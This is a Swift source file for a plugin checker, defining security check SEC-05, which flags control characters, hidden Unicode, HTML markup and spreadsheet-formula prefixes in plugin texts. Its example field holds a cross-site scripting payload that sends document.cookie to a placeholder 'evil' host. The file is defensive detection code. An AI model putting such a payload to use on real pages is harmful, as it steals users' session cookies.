internal import CWitanABI

extension Check {
  /// SEC-05.
  static let textInjection = Check(
    "SEC-05", "reason-injection", level: 2, .error,
    danger:
      "A plugin's words reach a terminal, a page, a table, a message: what one of them takes for a command runs with "
      + "the operator's rights.",
    example: "WTN_STR(\"<script>fetch('//evil/'+document.cookie)</script> {0}\")",
    fix: "Plain words: no control characters, no markup, no text that begins like a spreadsheet's formula.",
    .child { stage in
      let subject = try stage.subject()
      for (place, text) in subject.declaredTexts {
        if let fault = InjectedText(text).fault { return [Finding("\(place) \(fault)", at: place)] }
      }
      let host = try RecordingHost(.init(granted: subject.asked), flight: stage.flight)
      host.keepsTexts = true
      let instance = try subject.create(host: host)
      let series = stage.series(.realLike, try stage.usefulCount(beyond: 300))
      _ = try stage.feed(instance, series, 0..<series.count)
      _ = try instance.restore([1, 2, 3])
      instance.destroy()
      for (place, texts) in [
        ("a free text behind a vote", host.explained), ("a line for the log", host.logged.map(\.text)),
        ("an error's words", host.errors),
      ] {
        for text in texts {
          if let fault = InjectedText(text).fault { return [Finding("\(place) \(fault)", at: place)] }
        }
      }
      return []
    })
}

extension Subject {
  /// Every text of the descriptor that is shown to people, with its name.
  fileprivate var declaredTexts: [(place: String, text: [UInt8])] {
    let table = plugin.table
    let own = [
      ("the name", table.name), ("the version", table.version), ("the author", table.author),
      ("the summary", table.summary),
    ]
    var texts = own.map { ($0.0, $0.1.bytes(most: 4096)) }
    if let first = table.reasons, table.reason_stride >= MemoryLayout<wtn_reason>.size {
      for index in 0..<Int(min(table.reason_count, 256)) {
        let reason = UnsafeRawPointer(first).advanced(by: index * Int(table.reason_stride))
          .loadUnaligned(as: wtn_reason.self)
        texts.append(("the sentence of reason \(index)", reason.sentence.bytes(most: 4096)))
        for unit in [reason.unit.0, reason.unit.1, reason.unit.2] {
          texts.append(("a unit of reason \(index)", unit.bytes(most: 4096)))
        }
      }
    }
    for parameter in parameters {
      texts.append(("the label of \(parameter.name)", parameter.declared.label.bytes(most: 4096)))
      texts.append(("the unit of \(parameter.name)", parameter.declared.unit.bytes(most: 4096)))
    }
    return texts
  }
}

/// A text that somebody's program may take for more than a text.
struct InjectedText {
  private let text: [UInt8]

  init(_ text: [UInt8]) { self.text = text }

  /// What it could be taken for; nil where it is plain.
  var fault: String? {
    let shown = String(decoding: text.prefix(60).map { $0 < 0x20 || $0 == 0x7F ? 0x3F : $0 }, as: UTF8.self)
    if let byte = text.first(where: { $0 < 0x20 || $0 == 0x7F }) {
      return "holds the control character \(byte) (\"\(shown)\")"
    }
    // U+0080 to U+009F, which old terminals obey; and the signs that turn a text's direction.
    let scalars = String(decoding: text, as: UTF8.self).unicodeScalars
    if let scalar = scalars.first(where: { Self.isHidden($0.value) }) {
      return "holds the hidden character U+\(String(scalar.value, radix: 16, uppercase: true)) (\"\(shown)\")"
    }
    if isMarkup { return "holds what a browser takes for markup (\"\(shown)\")" }
    return isFormula ? "begins as a spreadsheet's formula does (\"\(shown)\")" : nil
  }

  private static func isHidden(_ value: UInt32) -> Bool {
    (0x80...0x9F).contains(value) || (0x202A...0x202E).contains(value) || (0x2066...0x2069).contains(value)
  }

  /// `<` before a letter, `/`, `!` or `?`; "RSI < 30" is none.
  private var isMarkup: Bool {
    zip(text, text.dropFirst()).contains { first, second in
      first == UInt8(ascii: "<")
        && ([UInt8(ascii: "/"), UInt8(ascii: "!"), UInt8(ascii: "?")].contains(second)
          || (UInt8(ascii: "a")...UInt8(ascii: "z")).contains(second | 0x20))
    }
  }

  /// `=` or `@` at the beginning; `+` or `-` there only with a call or a command behind it, since "+DI above -DI" is a
  /// sentence.
  private var isFormula: Bool {
    guard let first = text.first else { return false }
    if first == UInt8(ascii: "=") || first == UInt8(ascii: "@") { return true }
    let calls = [UInt8(ascii: "("), UInt8(ascii: "|"), UInt8(ascii: "!")]
    return (first == UInt8(ascii: "+") || first == UInt8(ascii: "-")) && text.contains { calls.contains($0) }
  }
}
